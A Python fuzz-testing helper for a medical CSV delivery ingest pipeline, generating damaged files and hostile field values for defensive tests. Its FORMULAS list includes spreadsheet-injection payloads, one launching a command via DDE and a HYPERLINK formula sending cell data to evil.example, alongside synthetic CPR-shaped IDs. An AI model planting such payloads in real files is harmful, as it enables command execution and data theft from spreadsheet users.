"""Hypothesis strategies that damage a valid delivery the way real deliveries get damaged
(and a few ways a hostile sender might try), plus the oracle every fuzz test applies.

A *case* is the spec's two-patient delivery (``tests/delivery_builder.BASE``) rendered to
bytes, then one to three mutations of single files: random bytes, truncation, dropped or
doubled lines, extra and missing separators, a field replaced by a hostile value (huge,
formula-like, odd Unicode, impossible dates, CPR-shaped), a whole file re-encoded, line
ends changed, blank-looking lines added.

Budget: ``MYELOMA_FUZZ_EXAMPLES`` scales every fuzz test (default: the normal-suite budget,
a few hundred cases in all, deterministic). ``MYELOMA_FUZZ_EXAMPLES=5000`` is the long
profile documented in THREAT_MODEL.md; it also switches hypothesis to random exploration
(``derandomize=False``) unless ``MYELOMA_FUZZ_DERANDOMIZE=1``.
"""

from __future__ import annotations

import os
import signal
from contextlib import contextmanager
from dataclasses import dataclass

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

from pipelines.ingest.delivery import count_data_rows
from pipelines.lib.errors import DeliveryRefused
from tests.delivery_builder import BASE

FILE_NAMES = [f"{name}.csv" for name in BASE]
DEFAULT_BUDGET = 60  # the normal-suite unit; each test takes a multiple of it


def budget(share: float, minimum: int = 1) -> int:
    """Examples for one test: ``share`` × the unit (``MYELOMA_FUZZ_EXAMPLES`` when set)."""
    unit = int(os.environ.get("MYELOMA_FUZZ_EXAMPLES", DEFAULT_BUDGET))
    return max(minimum, round(unit * share))


def fuzz_settings(share: float, minimum: int = 1, shrink: bool = True) -> settings:
    """``shrink=False`` for whole runs: a failing case is reported as found (shrinking ~15 s
    runs would take many minutes)."""
    long_profile = "MYELOMA_FUZZ_EXAMPLES" in os.environ and os.environ.get("MYELOMA_FUZZ_DERANDOMIZE") != "1"
    phases = [Phase.explicit, Phase.reuse, Phase.generate, Phase.target] + ([Phase.shrink] if shrink else [])
    return settings(
        max_examples=budget(share, minimum),
        phases=phases,
        derandomize=not long_profile,
        deadline=None,
        database=None,  # no .hypothesis folder in the tree; failures are reproduced by derandomize
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much,
                               HealthCheck.function_scoped_fixture],
        print_blob=True,
    )


def render(newline: str = "\n") -> dict[str, bytes]:
    return {f"{name}.csv": (newline.join(lines) + newline).encode("utf-8") for name, lines in BASE.items()}


FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1)", "@SUM(1+1)", "+1+1", "-1+1",
            "\t=1+1", " =1+1", "=1;=2"]
DATES = ["00-00-0000", "0000-00-00", "31-02-2024", "29-02-2023", "32-01-2024", "01-13-2024", "1-1-1",
         "01-01-0001", "0001-01-01", "31-12-9999", "9999-12-31", "01-01-99999", "2024-02-30", "07/04/2026",
         "07.04.2026", "07-04-26", " 07-04-2026 ", "07-04-2026T00:00", "2026-04-07 12:00:00"]
NUMBERS = ["1e400", "-1e400", "NaN", "nan", "inf", "-0", "0", "-1", "1,2,3", "1.2.3", "1 000", "9" * 400,
           "0," + "0" * 300 + "1", "0x10", "½", "١٢", "１２", "1_000", ".5", "5.", ","]
DAYS = ["0-2147483647", "1-2147483647,1-2147483647", "1-99999999999", "21-1", "1,,2", "-", "1-", "0"]
UNICODE = ["\u202eevil", "\u200b", "\ufeff", "\u00a0", "\u2028", "\u0085", "e\u0301", "😀", "\U0001F4A9" * 50,
           "æøåÆØÅ", "µmol/L", "umol/L", "\x00", "\x1a", "\x7f", "\ud7ff", "İ", "ß", "Ⅻ"]
CPR_SHAPED = ["1203614417", "120361-4417", "0000000000", "3113991234", "1203614417 ", "+1203614417",
              "12036144170", "120361441", "１２０３６１４４１７",
              # issue 13: glued to letters, digits or a date, typed separators, other scripts, invisible characters
              "pt1203614417", "1203614417x", "CPR1203614417", "130647310004-06-2017", "99120361441799",
              "120361 4417", "120361\u20134417", "120361\u20144417", "120361\u20114417", "120361/4417", "120361.4417",
              "120361 - 4417", "120361\u00a04417", "1203\u200b614417", "12036\u00ad14417", '"120361"4417',
              "\u0661\u0662\u0660\u0663\u0666\u0661\u0664\u0664\u0661\u0667", "\u0967\u0968\u0966\u0969\u096c\u0967\u096a\u096a\u0967\u096d"]
QUOTES = ['"', '""', '"a;b"', '"unterminated', 'a"b', '";"', "'"]
BLANKISH = ["", " ", "\t", "\r", "\u00a0", "\u2028", "\u3000", "\x0b", "\x0c", " ;", ";;;"]
HOSTILE_VALUES = ["", " ", "NA", ".", "uoplyst", "x" * 100_000] + FORMULAS + DATES + NUMBERS + DAYS + UNICODE \
    + CPR_SHAPED + QUOTES


@dataclass(frozen=True)
class Mutation:
    kind: str
    file: str
    args: tuple

    def __str__(self) -> str:  # short, for hypothesis' failure report
        shown = tuple(a if not isinstance(a, (str, bytes)) or len(a) < 60 else f"<{len(a)} chars>" for a in self.args)
        return f"{self.kind}({self.file}, {shown})"


def _lines(data: bytes) -> list[bytes]:
    return data.split(b"\n")


def apply(files: dict[str, bytes], mutation: Mutation) -> dict[str, bytes]:
    files = dict(files)
    data = files[mutation.file]
    kind, a = mutation.kind, mutation.args
    lines = _lines(data)
    if kind == "insert_bytes":
        pos = a[0] % (len(data) + 1)
        data = data[:pos] + a[1] + data[pos:]
    elif kind == "truncate":
        data = data[: a[0] % (len(data) + 1)]
    elif kind == "drop_line":
        del lines[a[0] % len(lines)]
        data = b"\n".join(lines)
    elif kind == "dup_line":
        i = a[0] % len(lines)
        lines.insert(i, lines[i])
        data = b"\n".join(lines)
    elif kind == "add_sep":
        i = a[0] % len(lines)
        pos = a[1] % (len(lines[i]) + 1)
        lines[i] = lines[i][:pos] + b";" + lines[i][pos:]
        data = b"\n".join(lines)
    elif kind == "del_sep":
        i = a[0] % len(lines)
        seps = [k for k, b in enumerate(lines[i]) if b == ord(";")]
        if seps:
            k = seps[a[1] % len(seps)]
            lines[i] = lines[i][:k] + lines[i][k + 1:]
        data = b"\n".join(lines)
    elif kind == "field":
        i = 1 + a[0] % max(len(lines) - 1, 1) if len(lines) > 1 else 0
        i = min(i, len(lines) - 1)
        fields = lines[i].split(b";")
        fields[a[1] % len(fields)] = a[2].encode(a[3], errors="replace")
        lines[i] = b";".join(fields)
        data = b"\n".join(lines)
    elif kind == "insert_line":
        i = 1 + a[0] % max(len(lines), 1)
        lines.insert(min(i, len(lines)), a[1].encode("utf-8"))
        data = b"\n".join(lines)
    elif kind == "encode":
        text = data.decode("utf-8", errors="replace")
        data = (b"\xef\xbb\xbf" if a[0] == "utf-8-sig" else b"") + text.encode(
            "utf-8" if a[0] == "utf-8-sig" else a[0], errors="replace")
    elif kind == "line_ends":
        data = data.replace(b"\n", a[0].encode())
    elif kind == "random_bytes":
        data = a[0]
    elif kind == "header":  # a header cell replaced or added (a CPR-shaped name, a huge one, many columns)
        cells = lines[0].split(b";")
        value = a[1].encode("utf-8")
        if a[0] % 2:
            cells.append(value)
        else:
            cells[a[0] % len(cells)] = value
        lines[0] = b";".join(cells)
        data = b"\n".join(lines)
    else:  # pragma: no cover
        raise ValueError(kind)
    files[mutation.file] = data
    return files


files_st = st.sampled_from(FILE_NAMES)
index_st = st.integers(min_value=0, max_value=10_000)
value_st = st.one_of(st.sampled_from(HOSTILE_VALUES), st.text(max_size=40))
encoding_st = st.sampled_from(["utf-8", "cp1252", "latin-1"])

mutation_st = st.one_of(
    st.builds(Mutation, st.just("insert_bytes"), files_st, st.tuples(index_st, st.binary(min_size=1, max_size=8))),
    st.builds(Mutation, st.just("truncate"), files_st, st.tuples(index_st)),
    st.builds(Mutation, st.just("drop_line"), files_st, st.tuples(index_st)),
    st.builds(Mutation, st.just("dup_line"), files_st, st.tuples(index_st)),
    st.builds(Mutation, st.just("add_sep"), files_st, st.tuples(index_st, index_st)),
    st.builds(Mutation, st.just("del_sep"), files_st, st.tuples(index_st, index_st)),
    st.builds(Mutation, st.just("field"), files_st, st.tuples(index_st, index_st, value_st, encoding_st)),
    st.builds(Mutation, st.just("field"), files_st, st.tuples(index_st, index_st, value_st, encoding_st)),
    st.builds(Mutation, st.just("insert_line"), files_st,
              st.tuples(index_st, st.one_of(st.sampled_from(BLANKISH + FORMULAS + CPR_SHAPED), st.text(max_size=60)))),
    st.builds(Mutation, st.just("encode"), files_st,
              st.tuples(st.sampled_from(["cp1252", "utf-16", "utf-16-le", "latin-1", "utf-8-sig", "utf-32", "cp850"]))),
    st.builds(Mutation, st.just("line_ends"), files_st, st.tuples(st.sampled_from(["\r\n", "\r", "\n\n", "\r\r\n"]))),
    st.builds(Mutation, st.just("random_bytes"), files_st, st.tuples(st.binary(max_size=200))),
    st.builds(Mutation, st.just("header"), files_st,
              st.tuples(index_st, st.one_of(st.sampled_from(CPR_SHAPED + ["n" * 300, ";".join(["c"] * 1500), "cpr", ""]),
                                            st.text(max_size=30)))),
)
mutations_st = st.lists(mutation_st, min_size=1, max_size=3)


def mutate(mutations: list[Mutation], files: dict[str, bytes] | None = None) -> dict[str, bytes]:
    files = files if files is not None else render()
    for m in mutations:
        files = apply(files, m)
    return files


def check_refusal(err: DeliveryRefused) -> None:
    """A clear refusal names a file of the delivery (or the manifest) in its message."""
    assert err.file in FILE_NAMES + ["manifest.json"], f"refusal names no delivery file: {err}"
    assert err.file in str(err) and str(err).startswith("delivery refused: ")


def cpr_numbers(data: bytes) -> set[str]:
    """Every CPR number (ten digits) in a file as delivered, by the one detector."""
    from pipelines.lib import cpr

    for encoding in ("utf-8", "cp1252", "latin-1"):
        try:
            text = data.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    return {f.digits for f in cpr.find(text)}


def clear_numbers(texts: dict[str, str], numbers: set[str]) -> list[tuple[str, str]]:
    """Where one of ``numbers`` appears, in any written form."""
    from pipelines.lib import cpr

    return [(where, f.digits) for where, text in texts.items() for f in cpr.find(text, dated=False) if f.digits in numbers]


def expected_rows(data: bytes) -> int:
    """Rows in as the contract counts them: non-blank data lines (the manifest's count)."""
    return count_data_rows(data)


@contextmanager
def no_hang(seconds: int, what: str):
    """A hang becomes a failure (SIGALRM, main thread; best effort: native code that never
    returns to Python, e.g. a runaway query, is caught only when it does)."""
    def alarm(signum, frame):
        raise TimeoutError(f"{what} did not finish within {seconds} s: a hang is a finding")

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
